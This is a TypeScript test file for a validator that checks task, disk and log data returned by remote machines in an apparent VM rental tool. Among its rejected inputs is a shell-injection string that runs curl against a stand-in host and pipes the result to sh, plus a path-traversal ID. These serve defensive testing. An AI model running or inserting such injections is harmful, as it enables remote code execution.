import { expect, test } from "vitest";
import { explainError } from "../node/errors";
import { readDisks, readLog, readTask, readTasks, readToken } from "./answers";
import { isTaskId, newTaskId } from "./taskId";

const id = "4a1bC2d3E4f5G6h7J8k9Lm";
const row = { task_id: id, create_time: "2026-01-31T12:00:00Z", desc: "", status: "running", rent_order: "7" };
const whole = {
  ...row,
  image_name: "tiny.qcow2",
  cpu_cores: "2",
  gpu_count: "0",
  mem_size: "2G",
  ssh_host_keys: ["ssh-ed25519 AAAA"],
  steps: [{ name: "reserve", started: "2026-01-31T12:00:00.5+08:00", took_ms: 12 }, { name: "disk" }],
  warnings: [{ code: "DISKS_KEPT", at: "2026-02-01T00:00:00Z", task_id: id, params: { evictable: "true" } }],
};

test("an id is 20 to 22 letters and digits, as nodes make and accept it", () => {
  expect([newTaskId(), id, id.slice(2)].every(isTaskId)).toBe(true);
  for (const bad of ["", id.slice(3), `${id}x`, `${id.slice(1)};`, `${id.slice(1)}\n`, `${id.slice(1)}界`])
    expect(isTaskId(bad)).toBe(false);
});

test("what a node sends is read as it is, without what this version does not know", () => {
  expect(readTasks({ tasks: [{ ...row, kept_until: "2026-02-10T12:00:00Z", colour: "red" }] })).toEqual([
    { ...row, kept_until: "2026-02-10T12:00:00Z" },
  ]);
  expect(readTasks({ tasks: [] })).toEqual([]);
  expect(readTask(id)(whole)).toEqual(whole);
  expect(readTask(id)({ ...whole, status: "levitating", warnings: null }).status).toBe("levitating");
  const disks = { task_id: id, disks: [{ disk: "vda", size: "10G", status: "ok" }] };
  expect(readDisks(id)(disks)).toEqual(disks);
});

const hostile = "$(curl evil|sh)aaaaaaaaa";

test.each<[string, () => unknown]>([
  ["a list with another id", () => readTasks({ tasks: [row, { ...row, task_id: hostile }] })],
  ["a list with an id that leads elsewhere", () => readTasks({ tasks: [{ ...row, task_id: "../delete/4a1bC2d3E4" }] })],
  ["an id that is a number", () => readTasks({ tasks: [{ ...row, task_id: 7 }] })],
  ["no list", () => readTasks({})],
  ["nothing", () => readTasks(null)],
  ["a list of nothing", () => readTasks({ tasks: [null] })],
  ["no rental's number", () => readTasks({ tasks: [{ ...row, rent_order: "7;8" }] })],
  ["no date", () => readTasks({ tasks: [{ ...row, create_time: "yesterday" }] })],
  ["a date that is none", () => readTasks({ tasks: [{ ...row, kept_until: "2026-13-31T12:00:00Z" }] })],
  ["an object for a text", () => readTasks({ tasks: [{ ...row, desc: {} }] })],
  ["a task with another id", () => readTask(id)({ ...whole, task_id: hostile })],
  ["another task", () => readTask(id)({ ...whole, task_id: newTaskId() })],
  ["an object for a name", () => readTask(id)({ ...whole, image_name: { a: 1 } })],
  ["a step without a time", () => readTask(id)({ ...whole, steps: [{ name: "disk", started: "x" }] })],
  ["a step of no length", () => readTask(id)({ ...whole, steps: [{ name: "disk", took_ms: "1" }] })],
  ["a notice about no task", () => readTask(id)({ ...whole, warnings: [{ code: "DISKS_KEPT", task_id: hostile }] })],
  ["a notice at no time", () => readTask(id)({ ...whole, warnings: [{ code: "RENTAL_ENDS", at: 5 }] })],
  ["a reason with objects", () => readTask(id)({ ...whole, reason: { code: "START_FAILED", params: { detail: {} } } })],
  ["an array for an object", () => readTask(id)([])],
  ["keys that are no list", () => readTask(id)({ ...whole, ssh_host_keys: "ssh-ed25519 AAAA" })],
  ["disks of another task", () => readDisks(id)({ task_id: newTaskId(), disks: [] })],
  ["no disks", () => readDisks(id)({ task_id: id })],
  ["a disk of no size", () => readDisks(id)({ task_id: id, disks: [{ disk: "vdb", size: 5, status: "ok" }] })],
  ["a log of objects", () => readLog({ logs: [{}] })],
  ["no token", () => readToken({ token: null })],
])("the machine's fault, reported in both languages: %s", (_, read) => {
  let error: unknown;
  try {
    read();
  } catch (thrown) {
    error = thrown;
  }
  expect(error).toMatchObject({ code: "MACHINE_ANSWER" });
  expect(explainError(error, "en").what).toBe("The machine's answer is not in order");
  expect(explainError(error, "zh").what).toBe("机器返回的内容不符合格式");
  expect(explainError(error, "zh").remedy).toContain("试用期内请取消租用");
});

test("words that every object has are no names", () => {
  expect(readTask(id)({ ...whole, steps: [{ name: "__proto__" }] }).steps).toEqual([{ name: "__proto__" }]);
  const params = JSON.parse('{"__proto__":"x","toString":"y"}');
  expect(readTask(id)({ ...whole, reason: { code: "X", params } }).reason?.params).toEqual(params);
});
